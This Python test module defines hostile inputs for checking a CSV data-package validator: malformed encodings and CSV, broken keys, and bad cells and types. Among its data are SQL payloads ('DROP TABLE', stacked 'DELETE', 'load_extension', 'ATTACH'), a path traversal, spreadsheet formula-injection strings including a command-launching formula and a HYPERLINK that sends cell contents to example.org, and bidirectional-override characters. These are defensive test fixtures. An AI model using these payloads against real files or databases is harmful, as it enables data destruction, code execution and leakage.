"""Bad files: bytes, CSV and keys, each as an edit of the small package; and bad cells, characters
and types, each in its own record."""

from __future__ import annotations

import gzip
from functools import partial

from tests.hostile.edits import Edit, both, encoded, put, swap, write
from tests.hostile.small import ACTS, FIRST, NOTES, SECOND

HEADER = "id,body,text,day,weight,place,open"
notes = partial(swap, NOTES)

Cell = tuple[str, str]
"""A column of a note, and its cell as in the file."""


def text(cell: str) -> Edit:
    """Replace the text of the first note."""
    return swap(NOTES, "first", cell)


BYTES: dict[str, Edit] = {
    "byte order mark": notes("id,body", b"\xef\xbb\xbfid,body"),
    "two byte order marks": notes("id,body", b"\xef\xbb\xbf\xef\xbb\xbfid,body"),
    "byte order mark alone": write(NOTES, b"\xef\xbb\xbf"),
    "UTF-16 with mark": encoded(NOTES, "utf-16"),
    "UTF-16, big end first": encoded(NOTES, "utf-16-be"),
    "UTF-32": encoded(NOTES, "utf-32"),
    "Latin-1": encoded(NOTES, "latin-1", "氣候", "Ämter"),
    "Windows-1252": encoded(NOTES, "cp1252", "氣候", "“so”"),
    "Big5": encoded(NOTES, "big5"),
    "GB 18030": encoded(NOTES, "gb18030"),
    "UTF-7": encoded(NOTES, "utf-7"),
    "overlong slash": notes("first", b"\xc0\xaf"),
    "surrogate in UTF-8": notes("first", b"\xed\xa0\x80"),
    "beyond Unicode": notes("first", b"\xf4\x90\x80\x80"),
    "cut inside a character": notes("氣候,,,,\n", "氣候".encode()[:4]),
    "carriage returns alone": encoded(NOTES, "utf-8", "\n", "\r"),
    "CRLF": encoded(NOTES, "utf-8", "\n", "\r\n"),
    "one CRLF among LF": notes("true\n", "true\r\n"),
    "no line end at the end": notes("候,,,,\n", "候,,,,"),
    "NUL": text("a\0b"),
    "nothing but NUL": write(NOTES, bytes(4096)),
    "empty file": write(NOTES, b""),
    "one line end": write(NOTES, b"\n"),
    "blank line first": notes("id,body", "\nid,body"),
    "blank line between": notes("n2", "\nn2"),
    "blank lines at the end": notes("候,,,,\n", "候,,,,\n\n\n"),
    "line of spaces": notes("n2", "   \nn2"),
    "end-of-file character of DOS": notes("候,,,,\n", "候,,,,\n\x1a"),
    "gzip": write(NOTES, gzip.compress(b"id\n", mtime=0)),
    "a spreadsheet": write(NOTES, b"PK\x03\x04\x14\0\x08\0\x08\0[Content_Types].xml"),
    "a picture": write(NOTES, b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR"),
    "HTML": write(NOTES, "<!doctype html>\n<title>404</title>\n"),
    "conflict of git": notes("n2,", "<<<<<<< HEAD\nn2,"),
}
CSV: dict[str, Edit] = {
    "quote never closed": notes("first", '"first'),
    "quote closed many lines on": both(notes("first", '"first'), notes("second", 'second"')),
    "text behind a quote": notes("first", '"fir"st'),
    "quote inside a bare cell": notes("first", 'fi"rst'),
    "quote opened in a quoted cell": notes("first", '"fi"rst"'),
    "space before a quote": notes("first", ' "first"'),
    "space behind a quote": notes("first", '"first" '),
    "quote escaped with a backslash": notes("first", '"fi\\"rst"'),
    "single quotes": notes("first", "'fir,st'"),
    "curly quotes": notes("first", "“fir,st”"),
    "cell too few": notes(",true", ""),
    "cell too many": notes(",true", ",true,x"),
    "comma at the end of each line": both(
        *[notes(end, end[:-1] + ",\n") for end in ("open\n", "true\n", "false\n", ",,,,\n")]
    ),
    "semicolons": write(NOTES, "id;body;text\nn1;a;x\n"),
    "tabs": write(NOTES, "id\tbody\ttext\nn1\ta\tx\n"),
    "bars": write(NOTES, "id|body|text\nn1|a|x\n"),
    "separator declared for a spreadsheet": notes("id,body", "sep=,\nid,body"),
    "comment above": notes("id,body", "# notes\nid,body"),
    "comment between": notes("n2,", "# n2\nn2,"),
    "title above the header": notes("id,body", "Our notes,,,,,,\nid,body"),
    "no header": notes(HEADER + "\n", ""),
    "header twice": notes("n2,", HEADER + "\nn2,"),
    "two columns of one name": notes("id,body,text", "id,body,body"),
    "column without a name": notes("id,body,text", "id,body,"),
    "columns in another order": notes("id,body,text", "id,text,body"),
    "column missing": write(NOTES, "id,body,text,day,weight,place\nn1,a,x,,,\n"),
    "column too many": write(NOTES, f"{HEADER},more\nn1,a,x,,,,,y\n"),
    "column in capitals": notes("id,body,text", "id,body,Text"),
    "space behind a column's name": notes("id,body,text,", "id,body,text ,"),
    "invisible character in a column's name": notes("id,body,text,", "id,body,te\u200bxt,"),
    "line break in a column's name": notes("id,body,text,", 'id,body,"te\nxt",'),
    "2 MB cell": text("x" * 2_000_000),
    "2 MB quoted cell of lines": text('"' + "x\n" * 1_000_000 + '"'),
    "cell a character too long": text("x" * 10_001),
    "100,000 cells in a record": notes(",true", ",true" + "," * 100_000),
    "a million quotes": text('"' + '""' * 1_000_000 + '"'),
    "a million quotes, one of them open": text('"' * 1_000_001),
}
KEYS: dict[str, Edit] = {
    "key twice": notes("n2,", "n1,"),
    "key empty": notes("n1,", ","),
    "key of a space": notes("n1,", '" ",'),
    "required cell empty": text(""),
    "out of order": notes("n1,", "n9,"),
    "reference to nothing": notes("n1,a", "n1,z"),
    "reference in other letters": notes("n1,a", "n1,A"),
    "reference to itself that is nothing": swap("data/bodies.csv", "treaty,a", "treaty,z"),
    "value of no category": swap("data/bodies.csv", "treaty", "treatise"),
    "key against its pattern": swap("data/bodies.csv", "b,Bodies", "b!,Bodies"),
    "name that a rule refuses": swap("data/bodies.csv", "Bodies", "bad"),
    "key twice in a revision": swap(FIRST, "b,", "a,"),
    "other columns in one revision": write(SECOND, "id,name,other\na,x,y\n"),
    "changed by hand what follows": swap("data/shown.csv", "a,Ämter,2", "a,Ämter,3"),
    "record that follows from nothing": swap("data/shown.csv", "b,Bodies,1\n", "b,Bodies,1\nc,More,0\n"),
    "record that follows is gone": swap("data/shown.csv", "b,Bodies,1\n", ""),
    "day that is not a day in a derived series": swap(ACTS, "2026-02-01", "../../../x"),
    "figure that is none": swap("data/claims.csv", "SELECT count(*) FROM bodies", "SELECT id FROM bodies"),
    "figure from a table that is not": swap("data/claims.csv", "bodies", "nobodies"),
    "figure that drops a table": swap("data/claims.csv", "SELECT count(*) FROM bodies", "DROP TABLE bodies"),
    "figure that attaches a file": swap("data/claims.csv", "SELECT count(*) FROM bodies", "ATTACH 'struck.db' AS struck"),
    "figure that loads code": swap("data/claims.csv", "count(*) FROM bodies", "load_extension('x')"),
    "figure in two statements": swap("data/claims.csv", "FROM bodies", "FROM bodies; DELETE FROM bodies"),
    "figure of a pragma": swap("data/claims.csv", "SELECT count(*) FROM bodies", "PRAGMA user_version = 7"),
    "query by chance": swap("data/queries.csv", "SELECT id", "SELECT random()"),
    "query that writes": swap("data/queries.csv", "SELECT id FROM acts ORDER BY id", "DELETE FROM notes"),
    "query of the day": swap("data/queries.csv", "SELECT id FROM acts ORDER BY id", "SELECT date('now')"),
    "query of SQLite's own tables": swap("data/queries.csv", "acts ORDER BY id", "sqlite_master"),
}  # fmt: skip
STATED: dict[str, Edit] = {
    "another hash": put("sha256:" + "0" * 64, "resources", "notes", "hash"),
    "another size": put(7, "resources", "notes", "bytes"),
    "a hash that is none": put("sha256:x", "resources", "notes", "hash"),
    "a hash of a number": put(7, "resources", "notes", "hash"),
    "a size that is none": put("few", "resources", "notes", "bytes"),
    "a byte more in the file": swap(NOTES, "first", "firsts"),
}
CHARACTERS: dict[str, Cell] = {
    "right-to-left override": ("text", "a\u202eb"),
    "isolate left open": ("text", "a\u2066b"),
    "Arabic letter mark": ("text", "a\u061cb"),
    "zero-width space": ("text", "a\u200bb"),
    "zero-width joiner": ("text", "a\u200db"),
    "word joiner": ("text", "a\u2060b"),
    "soft hyphen": ("text", "a\u00adb"),
    "variation selector": ("text", "a\ufe0fb"),
    "Hangul filler": ("text", "a\u3164b"),
    "hidden letter (tag)": ("text", "a\U000e0041b"),
    "byte order mark in a cell": ("text", "a\ufeffb"),
    "no-break space": ("text", "a\u00a0b"),
    "ideographic space": ("text", "氣\u3000候"),
    "line separator": ("text", "a\u2028b"),
    "next line (C1)": ("text", "a\u0085b"),
    "vertical tab": ("text", "a\vb"),
    "form feed": ("text", "a\fb"),
    "tab": ("text", "a\tb"),
    "colours of a terminal": ("text", "\x1b[31ma"),
    "bell": ("text", "a\x07"),
    "delete": ("text", "a\x7f"),
    "replacement character": ("text", "a\ufffdb"),
    "not a character": ("text", "a\ufffeb"),
    "letter and accent apart": ("text", "A\u0308mter"),
    "Hangul apart": ("text", "\u1112\u1161\u11ab"),
    "Kelvin sign": ("text", "5 \u212a"),
    "space first": ("text", " first"),
    "space last": ("text", "first "),
    "a space alone": ("text", " "),
    "formula": ("text", "=1+1"),
    "formula with a link": ("text", '"=HYPERLINK(""http://example.org?""&A1)"'),
    "formula with a program": ("text", "=cmd|' /C calc'!A0"),
    "formula with plus": ("text", "+1+1"),
    "formula with minus": ("text", "-2+cmd"),
    "formula with at": ("text", "@SUM(1)"),
    "formula behind a space": ("text", " =1+1"),
    "formula behind a tab": ("text", "\t=1+1"),
    "formula in wide letters": ("text", "＝1+1"),
    "formula in the key": ("id", "=n1"),
}
TYPES: dict[str, Cell] = {
    **{f"integer {value!r}": ("place", value) for value in (
        "1.5", "1e1", "１", "١", "0x10", "1_0", " 2", "two", "9" * 30, "0", "100", "-0.0",
    )},
    **{f"number {value!r}": ("weight", value) for value in (
        "NaN", "INF", "-INF", "1_0", "1e999", "１", "1.2.3", "--1", "1e", "nan", "Infinity", "9" * 400,
    )},
    "number with a comma": ("weight", '"1,5"'),
    **{f"date {value!r}": ("day", value) for value in (
        "2026-13-01", "2026-02-30", "01/02/2026", "2026-2-1", "20260201", "0000-01-01",
        "10000-01-01", "2026-02-01T00:00:00", "２０２６-02-01", "2026-02", "today",
    )},
    **{f"boolean {value!r}": ("open", value) for value in ("yes", "t", "2", "FALSE ", "wahr")},
}  # fmt: skip
CASES = {
    "bytes": BYTES,
    "csv": CSV,
    "keys": KEYS,
    "stated": STATED,
}
CELLS = {
    f"{group} / {name}": cell
    for group, cells in {"characters": CHARACTERS, "types": TYPES}.items()
    for name, cell in cells.items()
}


def noted() -> tuple[str, dict[str, int]]:
    """A file of notes, each with one of the bad cells; and the line of each."""
    good = {"body": "a", "text": "good", "day": "2026-02-01", "weight": "2", "place": "2"}
    records = {
        name: {"id": f"n{number:03}", **good, "open": "false", column: cell}
        for number, (name, (column, cell)) in enumerate(CELLS.items())
    }
    names = sorted(records, key=lambda name: records[name]["id"])
    lines = [HEADER, *(",".join(records[name].values()) for name in names)]
    return "\n".join(lines) + "\n", {name: line for line, name in enumerate(names, start=2)}
